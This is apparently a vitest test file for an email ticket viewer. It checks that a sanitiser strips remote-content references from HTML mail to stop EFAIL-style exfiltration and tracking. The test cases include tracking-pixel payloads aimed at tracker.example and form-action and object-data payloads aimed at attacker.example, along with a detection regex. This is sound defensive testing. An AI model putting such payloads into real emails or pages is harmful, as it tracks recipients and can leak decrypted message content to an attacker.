// EFAIL-style exfiltration and tracking: an HTML body must not make the browser fetch
// anything. The sandboxed frame's CSP blocks it; blockRemoteContent keeps the request from
// even being attempted (a Playwright walk saw Chromium report the blocked pixel request).
import { describe, expect, it } from 'vitest';
import { blockRemoteContent, htmlBodyDocument } from '../../src/lib/ui/tickets/html-body';

const remote = /(?:\s(?:src|srcset|background|poster|action|data|formaction)\s*=\s*["']?\s*(?:https?:|\/\/|ftp:))|url\(\s*["']?\s*(?:https?:|\/\/)|@import|<link\b/i;

describe('remote content in HTML mail', () => {
	const cases: [string, string][] = [
		['tracking pixel', '<img src="https://tracker.example/p.png" alt="">'],
		['unquoted, upper case', '<IMG SRC=http://tracker.example/p.png>'],
		['protocol-relative', "<img src='//tracker.example/p.png'>"],
		['srcset', '<img srcset="https://tracker.example/a.png 1x">'],
		['table background', '<td background="https://tracker.example/bg.png">x</td>'],
		['video poster', '<video poster="https://tracker.example/v.png"></video>'],
		['form action (EFAIL direct exfiltration)', '<form action="https://attacker.example/"><input></form>'],
		['object data', '<object data="https://attacker.example/x"></object>'],
		['CSS url()', '<div style="background:url( \'https://tracker.example/c.png\' )">x</div>'],
		['CSS @import', '<style>@import url("https://tracker.example/s.css"); p{color:red}</style>'],
		['stylesheet link', '<link rel="stylesheet" href="https://tracker.example/s.css">']
	];
	it.each(cases)('%s is neutralised', (_name, html) => {
		const out = blockRemoteContent(html);
		expect(out).not.toMatch(remote);
		expect(htmlBodyDocument(html)).not.toMatch(remote);
	});

	it('keeps data: images, cid: references, anchors and links', () => {
		const html = '<img src="data:image/png;base64,AAAA"><img src="cid:logo@x"><a href="#top">top</a><a href="https://example.org/">site</a>';
		expect(blockRemoteContent(html)).toBe(html);
	});

	it('keeps the blocked address visible for the agent', () => {
		expect(blockRemoteContent('<img src="https://tracker.example/p.png">')).toBe('<img data-blocked-src="https://tracker.example/p.png">');
	});
});
